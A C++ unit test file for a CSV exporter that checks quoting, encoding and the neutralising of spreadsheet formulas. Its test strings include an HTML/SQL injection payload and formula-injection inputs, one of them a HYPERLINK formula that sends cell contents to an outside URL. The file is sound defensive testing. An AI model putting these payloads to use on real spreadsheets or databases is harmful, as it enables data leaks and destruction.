// SPDX-FileCopyrightText: 2026 The Gehoor authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include <core/exports/celltext.h>
#include <core/exports/table.h>

#include <QDir>
#include <QFile>
#include <QTemporaryDir>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

using namespace Qt::StringLiterals;

namespace gehoor {
namespace {

/// A reader of RFC 4180 that shares nothing with the writer.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted && c == u'"' && text.mid(i + 1, 1) == u"\""_s) {
            cell += c;
            ++i;
        } else if (c == u'"') {
            quoted = !quoted;
        } else if (!quoted && c == u';') {
            row.append(std::exchange(cell, {}));
        } else if (!quoted && c == u'\r' && text.mid(i + 1, 1) == u"\n"_s) {
            row.append(std::exchange(cell, {}));
            rows.append(std::exchange(row, {}));
            ++i;
        } else {
            cell += c;
        }
    }
    EXPECT_FALSE(quoted) << "a quote was left open";
    EXPECT_TRUE(cell.isEmpty() && row.isEmpty()) << "the last row does not end";
    return rows;
}

class CsvWriterTest : public testing::Test
{
protected:
    QByteArray written(const QList<QStringList> &rows)
    {
        auto writer = csvWriter(m_path, {u"Nummer"_s, u"Onderwerp"_s});
        EXPECT_TRUE(writer.has_value());
        for (const QStringList &row : rows)
            EXPECT_TRUE((*writer)->row(row).has_value());
        EXPECT_TRUE((*writer)->finish().has_value());
        EXPECT_TRUE((*writer)->commit().has_value());
        QFile file(m_path);
        EXPECT_TRUE(file.open(QIODevice::ReadOnly));
        return file.readAll();
    }

    QTemporaryDir m_folder;
    QString m_path = m_folder.filePath(u"klachten.csv"_s);
};

TEST_F(CsvWriterTest, writesAMarkHeadingsAndRowsEndedByCrlf)
{
    EXPECT_EQ(written({{u"2026-0001"_s, u"Geluid é"_s}, {u"2026-0002"_s, QString()}}),
              "\xEF\xBB\xBFNummer;Onderwerp\r\n2026-0001;Geluid \xC3\xA9\r\n2026-0002;\r\n");
}

TEST_F(CsvWriterTest, givesEveryTextBackEqual)
{
    const QStringList texts = {
        u"puntkomma; en, komma"_s,
        u"zij zei \"nee\""_s,
        u"\"\"\""_s,
        u"eerste\r\ntweede\nderde\rvierde"_s,
        u" spaties voor en na "_s,
        u"שלום עולם \u202Eomgekeerd\u202C"_s,
        u"e\u0301 \u0928\u093F"_s,
        u"🙂👩‍👩‍👧"_s,
        u"%_{{x}}<img src=x onerror=1>'; DROP TABLE complaint;--"_s,
        QString(1'000'000, u'a') + u"\"einde"_s,
        u""_s,
    };
    QList<QStringList> rows;
    for (const QString &text : texts)
        rows.append({text, text});
    const QList<QStringList> back = parseCsv(QString::fromUtf8(written(rows).mid(3)));
    EXPECT_EQ(back.mid(1), rows);
}

TEST_F(CsvWriterTest, putsAnApostropheBeforeWhatASpreadsheetWouldRun)
{
    const QStringList formulas = {
        u"=1+1"_s,       u"+31612345678"_s, u"-1"_s,    u"@SUM(A1)"_s,
        u"\t=1"_s,       u"\r=1"_s,         u"\n=1"_s,  u"\ttab"_s,
        u"  =1+1"_s,     u"\"=1+1\""_s,     u"'=1+1"_s, u"\uFEFF=1+1"_s,
        u"\u200B=1+1"_s, u"\u00A0=1+1"_s,   u"＝1+1"_s, u"=HYPERLINK(\"http://example.nl?\"&A1;\"klik\")"_s};
    for (const QString &formula : formulas) {
        const QList<QStringList> back = parseCsv(QString::fromUtf8(written({{formula}}).mid(3)));
        EXPECT_EQ(back.at(1).at(0), u"'"_s + formula) << qPrintable(formula);
    }
}

TEST_F(CsvWriterTest, leavesOrdinaryTextWithoutApostrophe)
{
    for (const QString &text :
         {u"a=b"_s, u"1-1"_s, u"r.mulder@example.nl"_s, u"'s ochtends"_s, u"(+31)"_s, u"\"\""_s})
        EXPECT_FALSE(looksLikeFormula(text)) << qPrintable(text);
}

TEST_F(CsvWriterTest, replacesWhatNoReaderTakes)
{
    const QString text =
        u"a"_s + QChar(0) + u"b\x01\x1B"_s + QChar(0xD800) + u"c"_s + QChar(0xDC00) + QChar(0xFFFE);
    const QList<QStringList> back = parseCsv(QString::fromUtf8(written({{text}}).mid(3)));
    EXPECT_EQ(back.at(1).at(0), u"a\uFFFDb\uFFFD\uFFFD\uFFFDc\uFFFD\uFFFD"_s);
}

} // namespace
} // namespace gehoor
